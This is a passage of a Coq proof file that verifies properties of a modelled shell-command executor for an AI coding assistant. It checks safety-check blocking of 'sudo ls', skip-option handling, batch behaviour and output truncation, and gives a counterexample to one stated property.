  unfold executeCommandSync, bind, ret, exec_sync.
  destruct (skipSafetyCheck options) eqn:Hs, (isCommandSafe svc cmd) eqn:Hf;
    cbn [negb andb].
  4: { cbn. repeat split; auto; try discriminate. lia. }
  all: match goal with
       | |- context [execSync ?c ?xo ?e] =>
           destruct (execSync c xo e) as [[out | message status] e1]
       end;
       cbn [fst snd y_exitCode y_stderr y_stdout is_zero];
       rewrite ?or_else_not_zero;
       repeat split; auto; try discriminate;
       try (intros; now apply truncateOutput_length);
       try (intros; change (strlen []) with 0%Z;
            change (strlen truncation_marker) with 23%Z; lia).
Qed.

End SyncMore.

(* ================================================================== *)
(** * The further properties on the scripted machines *)
(* ================================================================== *)

Lemma continued_batches_compose_witness :
  continueOnError continue_options = true
  /\ executeCommands default_service ([js "ls"] ++ [js "cat missing.js"; js "pwd"])
       continue_options demo_world
     = (fst (executeCommands default_service [js "ls"] continue_options demo_world)
        ++ fst (executeCommands default_service [js "cat missing.js"; js "pwd"]
                  continue_options
                  (snd (executeCommands default_service [js "ls"] continue_options
                          demo_world))),
        snd (executeCommands default_service [js "cat missing.js"; js "pwd"]
               continue_options
               (snd (executeCommands default_service [js "ls"] continue_options
                       demo_world)))).
Proof.
  split; [reflexivity|].
  apply (@continued_batches_compose demo_machine default_service [js "ls"]
           [js "cat missing.js"; js "pwd"] continue_options demo_world).
  reflexivity.
Defined.


Lemma stopped_batch_is_cut_of_continued_witness :
  continueOnError no_options = false
  /\ fst (executeCommands default_service demo_batch no_options demo_world)
     = up_to_first_failure
         (fst (executeCommands default_service demo_batch
                 (set_continue true no_options) demo_world)).
Proof.
  split; [reflexivity|].
  apply (@stopped_batch_is_cut_of_continued demo_machine default_service demo_batch
           no_options demo_world).
  reflexivity.
Defined.

Lemma unsafe_command_ends_batch_witness :
  skipSafetyCheck no_options = false
  /\ continueOnError no_options = false
  /\ isCommandSafe default_service (js "sudo ls") = false
  /\ (List.length
        (fst (executeCommands default_service ([js "ls"] ++ js "sudo ls" :: [js "pwd"])
                no_options demo_world))
      <= S (List.length [js "ls"]))%nat
  /\ exists extra,
      spawned (snd (executeCommands default_service
                      ([js "ls"] ++ js "sudo ls" :: [js "pwd"]) no_options demo_world))
      = spawned demo_world ++ extra
      /\ incl (map fst extra) [js "ls"].
Proof.
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
  apply (@unsafe_command_ends_batch demo_machine default_service [js "ls"]
           (js "sudo ls") [js "pwd"] no_options demo_world); reflexivity.
Defined.

Lemma service_fallback_always_checks_witness :
  skipSafetyCheck (as_options skip_context) = true
  /\ exists r,
      fst (executeClaudeCodeCommand default_service (js "sudo ls") skip_context
             demo_world) = Executed r
      /\ blocked r = Some true
      /\ command r = js "sudo ls"
      /\ spawned (snd (executeClaudeCodeCommand default_service (js "sudo ls")
                         skip_context demo_world))
         = spawned demo_world.
Proof.
  split; [reflexivity|].
  apply (@service_fallback_always_checks demo_machine default_service (js "sudo ls")
           skip_context demo_world); reflexivity.
Defined.

Lemma provider_fallback_honours_skip_witness :
  isCommandSafe default_service (js "sudo ls") = false
  /\ exists r,
      fst (Provider_executeClaudeCommand (machine := demo_machine) (js "sudo ls")
             skip_context demo_world) = Returns (Executed r)
      /\ blocked r = None
      /\ spawned (snd (Provider_executeClaudeCommand (machine := demo_machine)
                         (js "sudo ls") skip_context demo_world))
         = spawned demo_world
           ++ [(js "sudo ls",
                child_options (machine := demo_machine)
                  (Provider_terminalService (machine := demo_machine))
                  (as_options skip_context))].
Proof.
  split; [reflexivity|].
  apply (@provider_fallback_honours_skip demo_machine (js "sudo ls") skip_context
           demo_world); reflexivity.
Defined.

Lemma inherited_name_is_not_executed_witness :
  isCommandSafe default_service (js "toString x") = false
  /\ executeClaudeCodeCommand default_service (js "toString x") skip_context demo_world
     = (InheritedMember (command_name (js "toString x"))
          (command_argument (js "toString x")), demo_world).
Proof.
  split; [reflexivity|].
  apply (@inherited_name_is_not_executed demo_machine default_service
           (js "toString x") skip_context demo_world).
  reflexivity.
Defined.

Lemma listed_commands_are_not_run_witness :
  snd (Provider_enhancedMessages listing_request demo_world) = demo_world
  /\ map content (fst (Provider_enhancedMessages listing_request demo_world))
     = [ js "You are a research assistant.";
         js "What changed?" ++ available_commands_heading
           ++ js "- git status" ++ [LF] ++ js "- npm test";
         js "Two files.";
         js "What changed?" ++ available_commands_heading
           ++ js "- git status" ++ [LF] ++ js "- npm test" ].
Proof.
  split; [|reflexivity].
  apply (@listed_commands_are_not_run demo_machine listing_request demo_world).
  reflexivity.
Defined.

Lemma context_without_system_message_is_dropped_witness :
  fst (Provider_enhancedMessages running_request demo_world) = messages running_request
  /\ map fst (spawned (snd (Provider_enhancedMessages running_request demo_world)))
     = [js "ls"].
Proof.
  destruct (@context_without_system_message_is_dropped demo_machine running_request
              (js "ls") [] demo_world eq_refl eq_refl eq_refl) as [Hm Hw].
  split; [exact Hm|]. rewrite Hw. reflexivity.
Defined.

(** The blocking executor on the scripted machine: a listing, a refusal
    and a failure. *)
Lemma sync_examples :
  fst (executeCommandSync (sm := sync_demo_machine) default_service (js "ls")
         no_options demo_world)
  = {| y_stdout := js "a.js" ++ [LF] ++ js "b.js" ++ [LF]; y_stderr := None;
       y_exitCode := Number 0 |}
  /\ executeCommandSync (sm := sync_demo_machine) default_service (js "sudo ls")
       no_options demo_world
     = ({| y_stdout := []; y_stderr := Some (js "Command blocked for safety reasons");
           y_exitCode := Number 1 |}, demo_world)
  /\ fst (executeCommandSync (sm := sync_demo_machine) default_service
            (js "cat missing.js") no_options demo_world)
     = {| y_stdout := []; y_stderr := Some (js "Command failed: cat missing.js");
          y_exitCode := Number 1 |}.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** C7 as stated fails: on this machine the [grep] of the search for [a]
    writes one line of 10001 code units, so the captured standard output
    has one line that is not blank; the result holds it cut to 10000 code
    units with the marker on a line of its own, and the entry counts 2. *)
Lemma search_counts_the_marker_counterexample :
  exec_outcome default_service (js "grep -r " ++ [DQ] ++ js "a" ++ [DQ] ++ js " .")
    continue_options long_line_world
  = Resolved long_output []
  /\ captured_stdout default_service
       (js "grep -r " ++ [DQ] ++ js "a" ++ [DQ] ++ js " .")
       continue_options long_line_world
     = long_output
  /\ nonblank_lines long_output = 1%nat
  /\ map s_command
       (results (fst (claudeSearch default_service (js "a") no_context
                        long_line_world)))
     = searchCommands (js "a") no_context
  /\ map matches
       (results (fst (claudeSearch default_service (js "a") no_context
                        long_line_world)))
     = [2; 0; 0]%nat.
Proof. repeat split; vm_compute; reflexivity. Qed.
